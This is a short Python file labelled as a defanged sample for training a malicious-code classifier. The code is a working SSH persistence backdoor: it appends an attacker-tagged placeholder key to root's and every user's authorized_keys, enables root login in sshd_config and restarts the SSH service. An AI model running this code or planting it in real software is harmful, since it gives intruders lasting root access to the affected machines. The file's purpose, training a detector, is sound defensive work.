# DEFANGED TRAINING SAMPLE for the shrike malicious-Python classifier. Never executed by anything.
# Addresses are documentation-only (127.0.0.1, 192.0.2.0/24, example.invalid); no working payload.
import os
KEY = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIPLACEHOLDERPLACEHOLDERPLACEHOLDERxx attacker@example.invalid"
for home in ["/root"] + ["/home/" + d for d in os.listdir("/home")]:
    d = os.path.join(home, ".ssh")
    os.makedirs(d, mode=0o700, exist_ok=True)
    with open(os.path.join(d, "authorized_keys"), "a") as f:
        f.write("\n" + KEY + "\n")
os.system("sed -i 's/^#\?PermitRootLogin.*/PermitRootLogin yes/' /etc/ssh/sshd_config; service ssh restart")
